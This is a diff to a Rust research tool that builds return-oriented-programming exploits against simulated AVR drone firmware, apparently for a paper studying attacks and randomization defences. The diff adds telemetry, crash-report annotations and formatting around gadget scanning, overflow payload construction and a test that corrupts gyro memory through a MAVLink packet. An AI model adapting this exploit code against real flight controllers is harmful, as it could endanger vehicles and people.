@@ -31,6 +31,7 @@
 use avr_core::image::FirmwareImage;
 use avr_sim::{Machine, RunExit};
 use mavlink_lite::GroundStation;
+use telemetry::{Telemetry, Value};
 
 use crate::scanner::{classify, GadgetMap};
 
@@ -85,7 +86,10 @@ impl std::fmt::Display for AttackError {
             AttackError::GadgetsMissing => write!(f, "required gadget shapes not found"),
             AttackError::DiscoveryFailed(why) => write!(f, "dry run failed: {why}"),
             AttackError::PayloadTooLong { needed } => {
-                write!(f, "chain needs {needed} bytes, payload limit is {MAX_PAYLOAD}")
+                write!(
+                    f,
+                    "chain needs {needed} bytes, payload limit is {MAX_PAYLOAD}"
+                )
             }
             AttackError::BadStagingArea { addr } => {
                 write!(f, "staging area {addr:#x} collides with firmware state")
@@ -144,17 +148,59 @@ impl AttackContext {
     /// Perform the attacker's static analysis and dry run against their own
     /// copy of `image`.
     pub fn discover(image: &FirmwareImage) -> Result<Self, AttackError> {
-        let gadgets = classify(image).ok_or(AttackError::GadgetsMissing)?;
-        let handler = image
-            .symbol("handle_param_set")
-            .ok_or_else(|| AttackError::DiscoveryFailed("no handler symbol".into()))?
-            .addr;
+        Self::discover_with(image, &Telemetry::off())
+    }
+
+    /// Like [`AttackContext::discover`], narrating each attack stage —
+    /// gadget scan, dry run, geometry capture — onto `telemetry`.
+    pub fn discover_with(
+        image: &FirmwareImage,
+        telemetry: &Telemetry,
+    ) -> Result<Self, AttackError> {
+        let fail = |stage: &'static str, err: AttackError| {
+            telemetry.emit("attack.stage_failed", None, || {
+                vec![
+                    ("stage", Value::Str(stage.into())),
+                    ("error", Value::Str(err.to_string())),
+                ]
+            });
+            err
+        };
+        let gadgets = match classify(image) {
+            Some(g) => g,
+            None => return Err(fail("scan", AttackError::GadgetsMissing)),
+        };
+        telemetry.emit("attack.scan", None, || {
+            vec![
+                ("stk_move", Value::U64(u64::from(gadgets.stk_move))),
+                (
+                    "write_mem_pop",
+                    Value::U64(u64::from(gadgets.write_mem_pop)),
+                ),
+                (
+                    "write_mem_std",
+                    Value::U64(u64::from(gadgets.write_mem_std)),
+                ),
+            ]
+        });
+        let handler = match image.symbol("handle_param_set") {
+            Some(s) => s.addr,
+            None => {
+                return Err(fail(
+                    "dry-run",
+                    AttackError::DiscoveryFailed("no handler symbol".into()),
+                ))
+            }
+        };
 
         let mut m = Machine::new_atmega2560();
         m.load_flash(0, &image.bytes);
         // Boot a couple of loop iterations.
         if let RunExit::Faulted(f) = m.run(200_000) {
-            return Err(AttackError::DiscoveryFailed(format!("boot fault: {f}")));
+            return Err(fail(
+                "dry-run",
+                AttackError::DiscoveryFailed(format!("boot fault: {f}")),
+            ));
         }
         m.add_breakpoint(handler);
         let mut gcs = GroundStation::new();
@@ -162,9 +208,10 @@ impl AttackContext {
         match m.run(2_000_000) {
             RunExit::Breakpoint { addr } if addr == handler => {}
             other => {
-                return Err(AttackError::DiscoveryFailed(format!(
-                    "never reached handler: {other:?}"
-                )))
+                return Err(fail(
+                    "dry-run",
+                    AttackError::DiscoveryFailed(format!("never reached handler: {other:?}")),
+                ))
             }
         }
         let sp_entry = m.sp();
@@ -174,6 +221,21 @@ impl AttackContext {
             m.peek_data(sp_entry + 2),
             m.peek_data(sp_entry + 3),
         ];
+        telemetry.emit("attack.discovery", Some(m.cycles()), || {
+            vec![
+                ("handler", Value::U64(u64::from(handler))),
+                ("sp_entry", Value::U64(u64::from(sp_entry))),
+                ("buffer", Value::U64(u64::from(y_frame + 1))),
+                (
+                    "orig_ret",
+                    Value::U64(
+                        (u64::from(orig_ret[0]) << 16)
+                            | (u64::from(orig_ret[1]) << 8)
+                            | u64::from(orig_ret[2]),
+                    ),
+                ),
+            ]
+        });
         Ok(AttackContext {
             gadgets,
             sp_entry,
@@ -241,6 +303,28 @@ impl AttackContext {
         payload.extend_from_slice(&addr3(final_gadget));
     }
 
+    /// Forensics annotations for the gadget addresses this chain returns
+    /// through, as `(byte_addr, len, label)` ranges for
+    /// `avr_sim::CrashReport::capture`. The addresses are from the
+    /// *attacker's* (original-layout) image — on a randomized victim they
+    /// land mid-function, which is exactly what the crash report should
+    /// call out.
+    pub fn annotations(&self) -> Vec<(u32, u32, String)> {
+        vec![
+            (self.gadgets.stk_move, 2, "gadget:stk_move".to_string()),
+            (
+                self.gadgets.write_mem_pop,
+                2,
+                "gadget:write_mem(pop)".to_string(),
+            ),
+            (
+                self.gadgets.write_mem_std,
+                2,
+                "gadget:write_mem(std)".to_string(),
+            ),
+        ]
+    }
+
     /// **Attack V1** (§IV-C): write `vals` to `target..target+2`, then let
     /// the corrupted stack crash the board. The ground station will notice;
     /// the paper's motivation for V2.
@@ -268,7 +352,12 @@ impl AttackContext {
         all.push((self.y_frame + FRAME + 4, self.orig_ret));
         let mut chain = self.chain_head(self.gadgets.write_mem_pop);
         // Pivot back so the final pops and ret consume the repaired frame.
-        self.push_write_chain(&mut chain, &all, self.y_frame + FRAME, self.gadgets.stk_move);
+        self.push_write_chain(
+            &mut chain,
+            &all,
+            self.y_frame + FRAME,
+            self.gadgets.stk_move,
+        );
         self.overflow(&chain, self.buffer - 1)
     }
 
@@ -296,7 +385,12 @@ impl AttackContext {
             [self.orig_r28, self.orig_r29, self.orig_r16],
         ));
         all.push((self.y_frame + FRAME + 4, self.orig_ret));
-        self.push_write_chain(&mut stage2, &all, self.y_frame + FRAME, self.gadgets.stk_move);
+        self.push_write_chain(
+            &mut stage2,
+            &all,
+            self.y_frame + FRAME,
+            self.gadgets.stk_move,
+        );
 
         // Stage the chain 3 bytes per write, several writes per carrier
         // packet, each carrier doing a clean return.
@@ -398,10 +492,17 @@ mod tests {
         m.run(2 * LOOP_CYCLES);
         let toggles_before = m.heartbeat.toggles().len();
         let mut gcs = GroundStation::new();
-        let payload = ctx.v2_payload(&[(l::GYRO + 3, [0xde, 0xad, 0x42])]).unwrap();
+        let payload = ctx
+            .v2_payload(&[(l::GYRO + 3, [0xde, 0xad, 0x42])])
+            .unwrap();
         m.uart0.inject(&gcs.exploit_packet(&payload).unwrap());
         let exit = m.run(40 * LOOP_CYCLES);
-        assert_eq!(exit, RunExit::CyclesExhausted, "clean return: {:?}", m.fault());
+        assert_eq!(
+            exit,
+            RunExit::CyclesExhausted,
+            "clean return: {:?}",
+            m.fault()
+        );
         assert_eq!(m.peek_data(l::GYRO + 3), 0xde);
         assert_eq!(m.peek_data(l::GYRO + 4), 0xad);
         assert_eq!(m.peek_data(l::GYRO + 5), 0x42);
